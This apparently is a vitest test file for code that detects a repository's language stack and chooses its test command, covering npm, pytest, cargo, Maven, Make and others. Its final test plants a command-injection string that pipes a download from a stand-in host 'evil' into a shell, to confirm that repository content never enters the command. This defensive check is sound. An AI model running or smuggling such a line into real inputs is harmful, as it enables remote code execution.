import { expect, test } from 'vitest';
import { stacksOf, testCommand } from '../../../core/init/stacks.ts';

/** A repository with these files at its top. */
const made = (files: Record<string, string>) =>
  stacksOf({ names: Object.keys(files), read: (name) => files[name] ?? null });

const script = (test: string) => JSON.stringify({ scripts: { test } });

test.each([
  ['npm', { 'package.json': script('node --test') }, 'Node', 'npm test'],
  ['pnpm', { 'package.json': script('vitest'), 'pnpm-lock.yaml': '' }, 'Node', 'pnpm test'],
  ['yarn', { 'package.json': script('jest'), 'yarn.lock': '' }, 'Node', 'yarn test'],
  ['bun', { 'package.json': script('x'), 'bun.lock': '' }, 'Node', 'bun run test'],
  [
    'what npm init writes',
    { 'package.json': script('echo "Error: no test specified" && exit 1') },
    'Node',
    null,
  ],
  ['a package.json that is none', { 'package.json': '{' }, 'Node', null],
  ['scripts that are none', { 'package.json': '{"scripts":{"test":{"a":1}}}' }, 'Node', null],
  ['pytest', { 'pyproject.toml': '[tool.pytest.ini_options]' }, 'Python', 'python -m pytest'],
  ['unittest', { 'setup.py': '' }, 'Python', 'python -m unittest'],
  ['go', { 'go.mod': 'module x' }, 'Go', 'go test ./...'],
  ['cargo', { 'Cargo.toml': '' }, 'Rust', 'cargo test --offline'],
  ['maven', { 'pom.xml': '' }, 'Maven', 'mvn --offline --batch-mode test'],
  ['gradle', { 'build.gradle.kts': '', gradlew: '' }, 'Gradle', './gradlew --offline test'],
  ['rspec', { Gemfile: '', '.rspec': '' }, 'Ruby', 'bundle exec rspec'],
  ['rake', { Gemfile: '' }, 'Ruby', 'bundle exec rake test'],
  ['php', { 'composer.json': '{}' }, 'PHP', 'vendor/bin/phpunit'],
  ['elixir', { 'mix.exs': '' }, 'Elixir', 'mix test --no-deps-check'],
  ['dotnet', { 'App.sln': '' }, '.NET', 'dotnet test --no-restore'],
  ['make', { Makefile: 'all:\n\ttrue\ntest: all\n\ttrue\n' }, 'Make', 'make test'],
  ['make without tests', { Makefile: 'test := 1\n' }, 'Make', null],
])('%s', (_, files, name, command) => {
  expect(made(files as Record<string, string>)).toEqual([{ name, test: command }]);
});

test('of several stacks the first that has tests says how they are run; of none nothing is known', () => {
  const both = made({ 'package.json': '{}', 'go.mod': '', 'README.md': '' });
  expect(both.map(({ name }) => name)).toEqual(['Node', 'Go']);
  expect(testCommand(both)).toBe('go test ./...');
  expect(made({ 'README.md': '' })).toEqual([]);
  expect(testCommand([])).toBeNull();
});

test('nothing that a repository says becomes part of a command', () => {
  const hostile = 'x; curl evil | sh `id` $(id)';
  const files = { 'package.json': script(hostile), Makefile: `test: ${hostile}`, 'pyproject.toml': hostile };
  for (const { test: command } of made(files))
    expect(command).toMatch(/^(npm test|make test|python -m unittest)$/);
});
